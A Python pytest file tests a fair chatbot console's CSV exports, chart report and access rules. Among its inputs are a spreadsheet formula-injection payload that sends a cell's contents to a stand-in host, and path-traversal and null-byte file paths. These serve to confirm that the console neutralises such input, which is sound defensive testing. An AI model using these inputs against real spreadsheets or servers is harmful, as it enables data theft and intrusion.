"""The console's exports and report page: each CSV is the file `tadamon export` / `tadamon
report` writes for the same database, byte for byte; the report's charts are PNGs shown in the
page and the whole report comes as a .zip; files that name people are for organizers only;
every download is in the audit log."""

from __future__ import annotations

import asyncio
import datetime as dt
import html
import io
import re
import zipfile
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from PIL import Image
from sqlalchemy import select

from bot.console.exports import CHARTS, DOWNLOADS, TABLES
from bot.csvfiles import EXPORTS
from storage.console import AuditLog
from storage.models import Contact
from tests.conftest import Chat, cli_env, run_tadamon
from tests.console import ConsoleClient, ConsoleFactory

pytestmark = pytest.mark.timeout(240)

CASABLANCA = ZoneInfo("Africa/Casablanca")
FAIR_TIME = dt.datetime(2026, 12, 13, 11, 0, tzinfo=CASABLANCA)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"ici")'
PERSONAL = ("registrations", "feedback", "contacts", "deliveries")
DATED = r"{name}-\d{{4}}-\d{{2}}-\d{{2}}\.{suffix}"


async def people_write(console: ConsoleClient) -> None:
    """Visitors register and give their opinion in the web chat of the console's App, in
    French, Arabic, Darija and English; one comment begins like a spreadsheet formula."""
    app = console.app
    app.engine.clock = lambda: FAIR_TIME
    chat = Chat(console.client, app)

    await chat("amina", "bonjour")
    await chat.tap("amina", "Français")
    await chat("amina", "/start ws_legal-framework-1")
    assert "Inscription confirmée" in (await chat.tap("amina", "S'inscrire")).text
    await chat("amina", "menu")
    await chat.tap("amina", "Donner mon avis")
    await chat.tap("amina", "★★★★")
    assert "commentaire a été enregistré" in (await chat("amina", HYPERLINK)).text

    await chat("karim", "السلام عليكم")
    await chat.tap("karim", "العربية")
    await chat("karim", "/start stand_A18")
    await chat.tap("karim", "تقييم هذا الرواق")
    await chat.tap("karim", "★★★★★")
    assert "تم تسجيل تعليقك" in (await chat("karim", "+1 الزرابي زوينة بزاف")).text
    await chat("karim", "واش كاين شي بلاصة ديال الصلاة؟")

    await chat("john", "hello, which workshops are there today?")
    await chat("john", "/start ws_valorisation-1")
    assert "You are registered" in (await chat.tap("john", "Register")).text
    await chat("john", "do you sell camel insurance")
    await app.engine.flush_statistics()  # counts of what people asked are written a moment later


async def cli_file(console: ConsoleClient, tmp_path: Path, *args: str) -> None:
    env = cli_env(TADAMON_DATABASE_URL=console.app.settings.database_url)
    code, _out, err = await run_tadamon(*args, env=env, cwd=tmp_path)
    assert code == 0, err


async def download(console: ConsoleClient, path: str) -> tuple[int, bytes, Any]:
    response = await console.client.get(path, allow_redirects=False)
    return response.status, await response.read(), response.headers


async def audit_entries(console: ConsoleClient) -> list[tuple[str, str, str]]:
    return [(entry.actor, entry.action, entry.subject)
            for entry in await AuditLog(console.app.sessions).recent()
            if entry.action.endswith("downloaded")]


async def test_each_export_is_the_command_lines_file_byte_for_byte(
        make_console: ConsoleFactory, tmp_path: Path) -> None:
    console = await make_console(web_sessions_per_minute=100_000)
    await people_write(console)
    status, page = await console.get("/admin/exports")
    assert status == 200
    for name in DOWNLOADS:
        assert f'href="/admin/exports/{name}.csv" data-export="{name}"' in page

    for name in EXPORTS:
        await cli_file(console, tmp_path, "export", name, "--out", f"{name}.csv")
        status, body, headers = await download(console, f"/admin/exports/{name}.csv")
        assert status == 200, body
        assert body == (tmp_path / f"{name}.csv").read_bytes(), name
        assert headers["Content-Type"] == "text/csv; charset=utf-8"
        assert re.fullmatch(f'attachment; filename="{DATED.format(name=name, suffix="csv")}"',
                            headers["Content-Disposition"])
    # The command line writes UTF-8 without a byte order mark: so does the console.
    feedback = (tmp_path / "feedback.csv").read_bytes()
    assert not feedback.startswith(b"\xef\xbb\xbf")
    text = feedback.decode("utf-8")
    assert f"'{HYPERLINK}" in text.replace('""', '"') and "'+1 الزرابي زوينة بزاف" in text
    registrations = (tmp_path / "registrations.csv").read_text(encoding="utf-8")
    assert "legal-framework-1" in registrations and "valorisation-1" in registrations

    # Two tables of the report, offered beside the exports.
    await cli_file(console, tmp_path, "report", "--out", "report")
    for name in ("intents", "questions"):
        status, body, headers = await download(console, f"/admin/exports/{name}.csv")
        assert status == 200
        assert body == (tmp_path / "report" / f"{name}.csv").read_bytes(), name
    assert "camel insurance" in (tmp_path / "report" / "questions.csv").read_text(encoding="utf-8")

    assert await audit_entries(console) == [
        ("org@fair.ma", "export downloaded", name)
        for name in reversed([*EXPORTS, "intents", "questions"])]
    status, page = await console.get("/admin/audit")
    assert "export téléchargé" in page


async def test_each_anonymous_export_is_the_command_lines_file_byte_for_byte(
        make_console: ConsoleFactory, tmp_path: Path) -> None:
    console = await make_console(web_sessions_per_minute=100_000)
    await people_write(console)
    async with console.app.sessions() as session:
        ids = list(await session.scalars(select(Contact.user_id)))
    assert len(ids) == 3
    status, page = await console.get("/admin/exports")
    assert status == 200 and 'id="exports-anonymous"' in page and "Version anonyme" in page
    for name in EXPORTS:
        assert (f'href="/admin/exports/anonymous/{name}.csv" '
                f'data-export-anonymous="{name}"') in page
    assert 'data-export-anonymous="intents"' not in page

    for name in EXPORTS:
        await cli_file(console, tmp_path, "export", name, "--out", f"{name}.csv", "--anonymous")
        status, body, headers = await download(console, f"/admin/exports/anonymous/{name}.csv")
        assert status == 200, body
        assert body == (tmp_path / f"{name}.csv").read_bytes(), name
        assert headers["Content-Type"] == "text/csv; charset=utf-8"
        assert re.fullmatch(
            f'attachment; filename="{DATED.format(name=f"{name}-anonymous", suffix="csv")}"',
            headers["Content-Disposition"])
        text = body.decode("utf-8")
        assert all(person_id not in text for person_id in ids), name
        assert re.search(r",p-[0-9a-f]{16},", text), name
    assert "'=HYPERLINK(" in (tmp_path / "feedback.csv").read_text(encoding="utf-8")

    assert await audit_entries(console) == [
        ("org@fair.ma", "anonymous export downloaded", name) for name in reversed(EXPORTS)]
    status, page = await console.get("/admin/audit")
    assert "export anonyme téléchargé" in page


@pytest.mark.postgres
async def test_the_registrations_export_on_postgresql(make_console: ConsoleFactory,
                                                      tmp_path: Path) -> None:
    console = await make_console(database="postgres", web_sessions_per_minute=100_000)
    await people_write(console)
    await cli_file(console, tmp_path, "export", "registrations", "--out", "out.csv")
    status, body, _headers = await download(console, "/admin/exports/registrations.csv")
    assert status == 200
    assert body == (tmp_path / "out.csv").read_bytes()
    assert body.count(b"\r\n") == 3  # the header and two registrations


async def test_the_report_shows_its_charts_and_gives_its_tables_and_a_zip(
        make_console: ConsoleFactory, tmp_path: Path) -> None:
    console = await make_console(web_sessions_per_minute=100_000)
    await people_write(console)
    status, page = await console.get("/admin/exports")
    report = page.split('<section id="report"', 1)[1]
    for name in CHARTS:
        assert (f'<a href="/admin/exports/report/{name}.png" data-chart="{name}"><img '
                f'src="/admin/exports/report/{name}.png" alt="') in report
    assert 'alt="Diagramme en barres' in report
    for name in TABLES:
        assert f'href="/admin/exports/report/{name}.csv"' in report

    # The page's images come together: one report serves them all.
    charts = await asyncio.gather(*(download(console, f"/admin/exports/report/{name}.png")
                                    for name in CHARTS))
    for name, (status, body, headers) in zip(CHARTS, charts, strict=True):
        assert (status, headers["Content-Type"]) == (200, "image/png"), name
        with Image.open(io.BytesIO(body)) as image:
            assert image.format == "PNG"
            width, height = image.size
            assert 500 <= width <= 2000 and 300 <= height <= 1500, (name, image.size)

    await cli_file(console, tmp_path, "report", "--out", "report")
    written = {path.name for path in (tmp_path / "report").iterdir()}
    assert written == {f"{name}.png" for name in CHARTS} | {f"{name}.csv" for name in TABLES}
    for name in TABLES:
        status, body, headers = await download(console, f"/admin/exports/report/{name}.csv")
        assert status == 200
        assert body == (tmp_path / "report" / f"{name}.csv").read_bytes(), name
        assert re.fullmatch(f'attachment; filename="{DATED.format(name=name, suffix="csv")}"',
                            headers["Content-Disposition"])

    status, body, headers = await download(console, "/admin/exports/report.zip")
    assert (status, headers["Content-Type"]) == (200, "application/zip")
    assert re.fullmatch(f'attachment; filename="{DATED.format(name="report", suffix="zip")}"',
                        headers["Content-Disposition"])
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert set(archive.namelist()) == written
        for name in TABLES:
            assert archive.read(f"{name}.csv") == (tmp_path / "report" / f"{name}.csv"
                                                   ).read_bytes()
        for name in CHARTS:
            with Image.open(io.BytesIO(archive.read(f"{name}.png"))) as image:
                assert image.format == "PNG"

    entries = await audit_entries(console)
    assert entries[0] == ("org@fair.ma", "report downloaded", "report.zip")
    assert {subject for _actor, action, subject in entries if action == "report downloaded"
            } == {f"{name}.csv" for name in TABLES} | {"report.zip"}


async def test_a_viewer_sees_the_page_and_charts_but_no_file_that_names_people(
        make_console: ConsoleFactory) -> None:
    console = await make_console(login="look@fair.ma", role="viewer")
    status, page = await console.get("/admin/exports")
    assert status == 200
    assert "Seuls les organisateurs peuvent télécharger" in page
    for name in PERSONAL:
        assert f'data-export="{name}"' not in page and f'data-locked="{name}"' in page
    assert 'data-export="intents"' in page and 'data-export="questions"' in page
    assert 'data-locked="exhibitor_survey"' in page and 'id="report-zip"' not in page

    assert "data-export-anonymous" not in page and 'id="exports-anonymous"' not in page
    for path in [*(f"/admin/exports/{name}.csv" for name in PERSONAL),
                 *(f"/admin/exports/anonymous/{name}.csv" for name in PERSONAL),
                 "/admin/exports/report/exhibitor_survey.csv", "/admin/exports/report.zip"]:
        status, body, _headers = await download(console, path)
        assert status == 403, path
        assert "Seuls les organisateurs" in body.decode()
    assert await audit_entries(console) == []

    # Statistics name no one: a viewer may take them.
    status, body, _headers = await download(console, "/admin/exports/report/fair_ratings.png")
    assert status == 200 and body.startswith(b"\x89PNG")
    for path in ("/admin/exports/intents.csv", "/admin/exports/report/key_figures.csv"):
        status, body, _headers = await download(console, path)
        assert status == 200, path
    assert await audit_entries(console) == [
        ("look@fair.ma", "report downloaded", "key_figures.csv"),
        ("look@fair.ma", "export downloaded", "intents")]


async def test_the_signed_out_get_the_sign_in_page_and_no_file(
        make_console: ConsoleFactory) -> None:
    console = await make_console(login=None)
    for path in ("/admin/exports", "/admin/exports/registrations.csv",
                 "/admin/exports/report/fair_ratings.png", "/admin/exports/report.zip"):
        status, body, headers = await download(console, path)
        assert status == 303, path
        assert headers["Location"].startswith("/admin/login?next=")
        assert b"workshop_id" not in body and not body.startswith(b"\x89PNG")
    assert await audit_entries(console) == []


@pytest.mark.parametrize("path", [
    "/admin/exports/nothing.csv", "/admin/exports/report/nothing.png",
    "/admin/exports/report/nothing.csv", "/admin/exports/%2E%2E%2Fsettings.csv",
    "/admin/exports/report/" + "x" * 5000 + ".png", "/admin/exports/report/%00.csv",
    "/admin/exports/anonymous/intents.csv", "/admin/exports/anonymous/nothing.csv",
])
async def test_an_unknown_file_is_a_clear_404(make_console: ConsoleFactory, path: str) -> None:
    console = await make_console()
    status, body, _headers = await download(console, path)
    assert status == 404
    assert "Ce fichier n'existe pas" in body.decode() or status == 404
    assert await audit_entries(console) == []


async def test_without_a_fair_the_page_says_so(make_console: ConsoleFactory) -> None:
    console = await make_console(sample=False)
    status, page = await console.get("/admin/exports")
    assert status == 200 and 'id="report-no-fair"' in page and "data-chart" not in page
    status, body, _headers = await download(console, "/admin/exports/report/fair_ratings.png")
    assert status == 404 and "importez d'abord un catalogue" in html.unescape(body.decode())
    status, _body, _headers = await download(console, "/admin/exports/registrations.csv")
    assert status == 200


@pytest.mark.parametrize(("language", "direction", "words"), [
    ("ar", "rtl", ("التصدير", "مخطط")),
    ("en", "ltr", ("Exports and report", "Bar chart")),
    ("fr", "ltr", ("Exports et rapport", "Diagramme en barres")),
])
async def test_the_page_in_each_language(make_console: ConsoleFactory, language: str,
                                         direction: str, words: tuple[str, str]) -> None:
    console = await make_console()
    await console.get(f"/admin/language/{language}?next=/admin/exports")
    status, page = await console.get("/admin/exports")
    assert status == 200
    assert f'<html lang="{language}" dir="{direction}">' in page
    for word in words:
        assert word in page, word
    alts = re.findall(r'<img src="[^"]+" alt="([^"]+)"', page)
    assert len(alts) == len(CHARTS) and all(alts)
    if language == "ar":
        assert all(re.search(r"[\u0600-\u06FF]", alt) for alt in alts)
